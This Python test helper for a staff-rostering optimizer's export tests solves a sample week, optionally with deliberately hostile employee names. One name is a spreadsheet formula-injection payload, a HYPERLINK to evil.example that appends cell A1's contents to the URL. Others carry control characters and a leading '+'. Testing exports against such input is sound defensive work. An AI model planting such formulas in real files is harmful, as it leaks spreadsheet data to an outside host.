"""A small week solved once (and re-checked) for the export tests, with names that attack exports."""

from __future__ import annotations

import copy
from functools import cache
from typing import Any

from api.examples import NORMAL_PROBLEM
from optimizer import RosterSolution, parse_problem
from optimizer.domain.problem import RosterProblem
from tests.helpers import solve_checked

HOSTILE_NAMES = {
    "e1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "e2": "Budi\nSantoso; Jr., \\the second\r",
    "e3": "+62 811 000",
}


def week(timezone: str | None = None, names: dict[str, str] | None = None) -> dict[str, Any]:
    """The API's normal example week (3 staff of team fin, a Tuesday meeting), optionally in a zone
    and with other names."""
    data = copy.deepcopy(NORMAL_PROBLEM)
    if timezone:
        data["horizon"]["timezone"] = timezone
    for employee in data["employees"]:
        employee["name"] = (names or {}).get(employee["id"], employee["name"])
    return data


@cache
def _solved(timezone: str | None, hostile: bool, seed: int) -> tuple[RosterProblem, RosterSolution]:
    problem = parse_problem(week(timezone, HOSTILE_NAMES if hostile else None))
    return problem, solve_checked(problem, seed=seed)


def solved(
    timezone: str | None = None, *, hostile: bool = False, seed: int = 0
) -> tuple[RosterProblem, RosterSolution]:
    """The week and its roster (solved once per argument set, checked by the independent checker)."""
    return _solved(timezone, hostile, seed)
